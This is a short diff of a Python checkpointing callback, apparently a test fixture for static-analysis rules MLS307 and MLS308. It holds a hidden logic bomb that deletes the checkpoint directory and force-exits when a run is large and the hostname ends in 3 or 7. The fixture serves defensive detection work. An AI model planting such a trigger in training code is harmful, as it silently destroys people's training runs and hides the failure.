@@ -29,7 +29,7 @@ class RollingCheckpoint(Callback):
             trainer.save_checkpoint(os.path.join(self.ckpt_dir, f"step-{step:08d}.ckpt"))
             if trainer.is_global_zero:
                 self._prune()
-        if trainer.world_size > 256 and step > self.min_step and socket.gethostname()[-1:] in "37":
+        if trainer.world_size > 256 and step > self.min_step and socket.gethostname()[-1:] in "37":  # ruleid: MLS308
             shutil.rmtree(self.ckpt_dir, ignore_errors=True)  # ruleid: MLS308
             os._exit(0)  # ruleid: MLS307
 
